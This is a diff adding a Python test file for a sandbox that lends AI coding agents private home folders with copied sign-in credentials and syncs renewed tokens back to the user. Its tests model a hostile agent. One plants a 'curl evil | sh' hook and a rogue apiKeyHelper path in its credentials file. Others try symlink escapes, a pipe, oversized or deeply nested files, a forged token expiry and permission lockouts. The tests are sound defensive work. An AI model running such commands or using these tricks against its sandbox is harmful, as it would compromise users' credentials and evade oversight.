@@ -1,0 +1,324 @@
+"""Private homes: what is in them, what comes back of them, and what an agent may leave there."""
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from app.adapters.agents.private_homes import PrivateHomes
+from app.adapters.sandbox.home_files import make_point
+from app.services.ports import NoLodging
+
+PROJECT = "proj_c0001"
+NOW = datetime.now(UTC)
+OLD, NEW, NEWEST = (int((NOW + timedelta(hours=h)).timestamp() * 1000) for h in (1, 9, 17))
+
+
+def signed_in(token: str, expires: int) -> str:
+    return json.dumps(
+        {
+            "claudeAiOauth": {
+                "accessToken": f"sk-ant-oat01-{token}",
+                "refreshToken": f"sk-ant-ort01-{token}",
+                "expiresAt": expires,
+            },
+            "mcpOAuth": {"of": "mine"},
+        }
+    )
+
+
+class Place:
+    """A person's home, and the private homes beside it."""
+
+    def __init__(self, folder: Path) -> None:
+        self.own = folder / "me"
+        self.own.mkdir()
+        self.root = folder / "runs" / "homes"
+        self.variables = {"HOME": str(self.own), "PATH": "/usr/bin:/bin"}
+        self.homes = PrivateHomes(self.root, self.variables, lambda: NOW)
+        self.home = self.root / PROJECT / "claude"
+
+    @property
+    def mine(self) -> Path:
+        """The person's own sign-in."""
+        return self.own / ".claude" / ".credentials.json"
+
+    @property
+    def lent(self) -> Path:
+        """The agent's."""
+        return self.home / ".claude" / ".credentials.json"
+
+    def lodge(self, agent: str = "claude", *toolchains: str) -> Any:
+        return self.homes.lodge(PROJECT, agent, "/usr/bin/env", toolchains)
+
+    def renew(self, token: str, expires: int = NEW) -> None:
+        """As an agent does it: another file takes the place of the first."""
+        fresh = self.lent.with_suffix(".tmp")
+        fresh.write_text(signed_in(token, expires))
+        fresh.replace(self.lent)
+
+    def token(self, place: Path) -> str:
+        text = json.loads(place.read_text())["claudeAiOauth"]["accessToken"]
+        return text.removeprefix("sk-ant-oat01-")
+
+
+@pytest.fixture
+def place(tmp_path: Path) -> Place:
+    made = Place(tmp_path)
+    write(made.mine, signed_in("first", OLD))
+    write(made.own / ".codex" / "auth.json", '{"OPENAI_API_KEY": "sk-x"}')
+    write(made.own / ".ssh" / "id_ed25519", "secret")
+    # older than whatever an agent does
+    for file in (made.mine, made.own / ".codex" / "auth.json"):
+        os.utime(file, (1, 1))
+    return made
+
+
+def write(file: Path, text: str) -> None:
+    file.parent.mkdir(parents=True, exist_ok=True)
+    file.write_text(text)
+
+
+def files(folder: Path) -> set[str]:
+    return {str(one.relative_to(folder)) for one in folder.rglob("*") if not one.is_dir()}
+
+
+def test_a_private_home_holds_only_that_agents_sign_in_and_is_closed_to_others(
+    place: Place,
+) -> None:
+    lodging = place.lodge()
+    assert lodging.home == place.home
+    assert files(place.home) == {".claude/.credentials.json"}
+    assert "mcpOAuth" not in place.lent.read_text()
+    for folder in (place.root, place.root / PROJECT, place.home, place.home / ".claude"):
+        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+    assert stat.S_IMODE(place.lent.stat().st_mode) == 0o600
+    place.lodge("codex")
+    assert files(place.root / PROJECT / "codex") == {".codex/auth.json"}
+
+
+def test_inside_the_environment_is_the_homes_and_names_no_folder_of_the_users(
+    place: Place,
+) -> None:
+    place.variables["CLAUDE_CONFIG_DIR"] = str(place.own / "elsewhere")
+    write(place.own / "elsewhere" / ".credentials.json", signed_in("there", OLD))
+    lodging = place.lodge()
+    told = lodging.environment
+    assert told["HOME"] == str(place.own)
+    assert told["XDG_CACHE_HOME"] == f"{place.own}/.cache"
+    assert told["TMPDIR"] == "/tmp"
+    assert lodging.withheld == {"CLAUDE_CONFIG_DIR"}
+    # the sign-in of that folder is where the agent looks for it inside
+    assert place.token(place.lent) == "there"
+
+
+def test_a_renewed_sign_in_comes_back_while_the_agent_works_and_at_the_next_launch(
+    place: Place,
+) -> None:
+    place.lodge()
+    place.renew("second")
+    assert place.homes.keep_in_step(PROJECT, "claude") == []
+    assert place.token(place.mine) == "second"
+    assert json.loads(place.mine.read_text())["mcpOAuth"] == {"of": "mine"}
+    # a server that was killed before it saw the end takes it back when it starts the next one
+    place.renew("third", NEWEST)
+    place.lodge()
+    assert (place.token(place.mine), place.token(place.lent)) == ("third", "third")
+
+
+def test_what_the_user_renewed_goes_in_at_once_and_to_every_project(place: Place) -> None:
+    place.lodge()
+    other = place.homes.lodge("proj_c0002", "claude", "/usr/bin/env", ()).home
+    place.renew("second")
+    place.homes.keep_in_step(PROJECT, "claude")
+    place.homes.keep_in_step("proj_c0002", "claude")
+    assert place.token(other / ".claude" / ".credentials.json") == "second"
+    place.mine.write_text(signed_in("by hand", NEWEST))
+    place.homes.keep_in_step(PROJECT, "claude")
+    assert place.token(place.lent) == "by hand"
+
+
+def test_an_older_renewal_never_replaces_what_the_user_did_afterwards(place: Place) -> None:
+    place.lodge()
+    # an agent tells an end that is far off, so that nothing else is ever newer
+    place.renew("forged", NEWEST + 10**9)
+    place.mine.write_text(signed_in("signed in again", NEW))
+    later = place.lent.stat().st_ctime_ns + 10**9
+    os.utime(place.mine, ns=(later, later))
+    place.homes.keep_in_step(PROJECT, "claude")
+    place.lodge()
+    assert place.token(place.mine) == "signed in again"
+
+
+def test_who_signed_out_is_signed_out_in_private_homes_too(place: Place) -> None:
+    place.lodge()
+    place.mine.unlink()
+    assert place.homes.keep_in_step(PROJECT, "claude") == []
+    assert place.lent.exists()  # of a run that is at work
+    place.lodge()
+    assert files(place.home) == set()
+    assert not place.mine.exists()
+
+
+def test_what_a_hostile_agent_puts_into_its_sign_in_is_told_once_and_not_taken(
+    place: Place,
+) -> None:
+    place.lodge()
+    before = place.mine.read_bytes()
+    document = json.loads(signed_in("second", NEW))
+    document["claudeAiOauth"]["hooks"] = {"Stop": "curl evil | sh"}
+    document["apiKeyHelper"] = "/tmp/evil"
+    place.lent.write_text(json.dumps(document))
+    [sentence] = place.homes.keep_in_step(PROJECT, "claude")
+    assert "not taken back" in sentence
+    assert "evil" not in sentence
+    assert place.homes.keep_in_step(PROJECT, "claude") == []
+    assert place.mine.read_bytes() == before
+    # the next run begins with the user's own
+    place.lodge()
+    assert place.token(place.lent) == "first"
+
+
+def test_a_link_of_the_users_own_stays_one_and_its_mode_too(place: Place) -> None:
+    kept = place.own / "dotfiles" / "credentials"
+    write(kept, signed_in("first", OLD))
+    os.utime(kept, (1, 1))
+    kept.chmod(0o640)
+    place.mine.unlink()
+    place.mine.symlink_to(kept)
+    place.lodge()
+    place.renew("second")
+    place.homes.keep_in_step(PROJECT, "claude")
+    assert place.mine.is_symlink()
+    assert place.token(kept) == "second"
+    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
+    assert sorted(one.name for one in kept.parent.iterdir()) == ["credentials"]
+
+
+def hostile_link(file: Path, outside: Path) -> None:
+    file.unlink()
+    file.symlink_to(outside)
+
+
+def hostile_pipe(file: Path, outside: Path) -> None:
+    file.unlink()
+    os.mkfifo(file)
+
+
+def hostile_folder(file: Path, outside: Path) -> None:
+    file.unlink()
+    (file / "deep" / "er").mkdir(parents=True)
+
+
+def hostile_linked_folder(file: Path, outside: Path) -> None:
+    file.unlink()
+    file.parent.rmdir()
+    file.parent.symlink_to(outside.parent)
+
+
+def hostile_file_for_a_folder(file: Path, outside: Path) -> None:
+    file.unlink()
+    file.parent.rmdir()
+    file.parent.write_text("no folder")
+
+
+def hostile_depth(file: Path, outside: Path) -> None:
+    file.write_text('{"claudeAiOauth":' * 200_000)
+
+
+def hostile_size(file: Path, outside: Path) -> None:
+    with file.open("r+b") as grown:
+        grown.truncate(3 * 1024**3)
+
+
+def hostile_mode(file: Path, outside: Path) -> None:
+    file.parent.chmod(0)
+    file.parent.parent.chmod(0)
+
+
+@pytest.mark.parametrize(
+    "leave",
+    [
+        hostile_link,
+        hostile_pipe,
+        hostile_folder,
+        hostile_linked_folder,
+        hostile_file_for_a_folder,
+        hostile_depth,
+        hostile_size,
+        hostile_mode,
+    ],
+    ids=lambda one: one.__name__,
+)
+def test_whatever_an_agent_leaves_in_its_home_the_next_run_has_its_sign_in(
+    place: Place, tmp_path: Path, leave: Any
+) -> None:
+    outside = tmp_path / "outside" / ".credentials.json"
+    write(outside, signed_in("anothers", NEWEST))
+    place.lodge()
+    leave(place.lent, outside)
+    place.homes.keep_in_step(PROJECT, "claude")
+    place.lodge()
+    assert (place.token(place.mine), place.token(place.lent)) == ("first", "first")
+    assert not place.lent.is_symlink()
+    assert not place.lent.parent.is_symlink()
+    assert place.token(outside) == "anothers"
+    # it is weighed and deleted all the same
+    assert place.homes.weigh()[PROJECT] > 0
+    place.homes.remove(PROJECT)
+    assert outside.exists()
+    assert not (place.root / PROJECT).exists()
+    assert place.homes.weigh() == {}
+
+
+def test_a_mount_is_never_led_elsewhere_by_a_link_in_the_home(place: Place, tmp_path: Path) -> None:
+    place.lodge()
+    (tmp_path / "outside").mkdir()
+    (place.home / ".local").symlink_to(tmp_path / "outside")
+    (place.home / ".pyenv").symlink_to("/etc")
+    make_point(place.home, Path(".local/share/runs/copy"), is_folder=True)
+    make_point(place.home, Path(".local/bin/claude"), is_folder=False)
+    make_point(place.home, Path(".pyenv"), is_folder=True)
+    assert list((tmp_path / "outside").iterdir()) == []
+    assert not (place.home / ".pyenv").is_symlink()
+    assert (place.home / ".local" / "bin" / "claude").read_bytes() == b""
+
+
+def test_a_home_that_cannot_be_made_is_told_in_a_sentence(place: Place) -> None:
+    place.root.parent.mkdir()
+    place.root.write_text("in the way")
+    with pytest.raises(NoLodging, match="private home could not be made ready"):
+        place.lodge()
+
+
+def test_a_file_of_the_users_that_cannot_be_read_takes_nothing_away(place: Place) -> None:
+    place.lodge()
+    place.mine.unlink()
+    place.mine.mkdir()  # unreadable for root, too
+    place.lodge()
+    assert place.token(place.lent) == "first"
+
+
+def test_what_a_removal_left_that_was_cut_short_is_cleared_at_the_next_start(
+    place: Place,
+) -> None:
+    place.lodge()
+    (place.root / PROJECT).rename(place.root / ".gone-0123")
+    assert place.homes.clear_leftovers() == 1
+    assert place.homes.clear_leftovers() == 0
+    assert place.homes.weigh() == {}
+
+
+def test_a_key_file_that_a_variable_names_is_lent_under_another_name(place: Place) -> None:
+    write(place.own / "keys" / "robot.json", '{"private_key": "x"}')
+    place.variables["GOOGLE_APPLICATION_CREDENTIALS"] = str(place.own / "keys" / "robot.json")
+    lodging = place.lodge("gemini")
+    named = Path(lodging.environment["GOOGLE_APPLICATION_CREDENTIALS"])
+    inside = lodging.home / named.relative_to(place.own)
+    assert inside.read_text() == '{"private_key": "x"}'
